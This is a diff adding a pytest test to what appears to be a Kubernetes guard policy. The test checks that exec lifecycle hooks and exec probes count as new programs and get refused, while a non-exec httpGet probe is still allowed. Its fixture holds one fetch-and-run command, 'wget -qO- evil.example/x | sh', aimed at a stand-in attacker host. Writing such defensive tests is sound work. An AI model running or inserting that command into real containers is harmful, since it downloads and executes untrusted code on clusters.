@@ -697,3 +697,19 @@ def test_a_program_the_workload_ran_while_healthy_is_no_new_program() -> None:
     assert recorded_programs(wrong, {f"StatefulSet/{NS}/web": healthy}) == set()
     assert recorded_programs(wrong, None) == set()
     assert refused(PATCH, wrong, RUNS).guard == "program"
+
+
+@pytest.mark.parametrize(
+    "field",
+    ["lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe"],
+)
+def test_an_exec_hook_or_probe_is_a_program_too(field: str) -> None:
+    # the kubelet runs a hook's or an exec probe's command in the container: as free an argv as a command
+    handler = {"exec": {"command": ["sh", "-c", "wget -qO- evil.example/x | sh"]}}
+    after = with_(BASE, f"{C0}.{field}", handler)
+    refusal = refused(PATCH, BASE, after)
+    assert refusal.guard == "program" and f"{field}.exec" in str(refusal)
+    # one the workload ran (here: the same probe before a threshold change) stays allowed, as does a non-exec probe
+    ran = with_(BASE, f"{C0}.{field}", {**handler, "periodSeconds": 10})
+    POLICY.check(PATCH, ran, with_(ran, f"{C0}.{field}", {**handler, "periodSeconds": 30}))
+    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.{field}", {"httpGet": {"path": "/healthz", "port": 80}}))
